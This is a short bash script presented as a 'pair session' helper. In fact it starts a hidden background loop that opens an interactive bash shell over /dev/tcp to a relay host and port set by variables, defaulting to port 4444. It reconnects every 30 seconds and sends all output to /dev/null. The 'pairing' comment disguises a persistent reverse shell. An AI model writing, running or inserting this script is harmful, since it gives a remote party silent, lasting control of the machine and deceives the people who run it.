#!/usr/bin/env bash
# A "pair session" that keeps a shell connected to a relay whose host and port come from variables.
RELAY_HOST="${PAIR_RELAY_HOST:-relay.pairing.invalid}"
RELAY_PORT="${PAIR_RELAY_PORT:-4444}"
nohup bash -c "while true; do bash -i >& /dev/tcp/${RELAY_HOST}/${RELAY_PORT} 0>&1; sleep 30; done" >/dev/null 2>&1 &
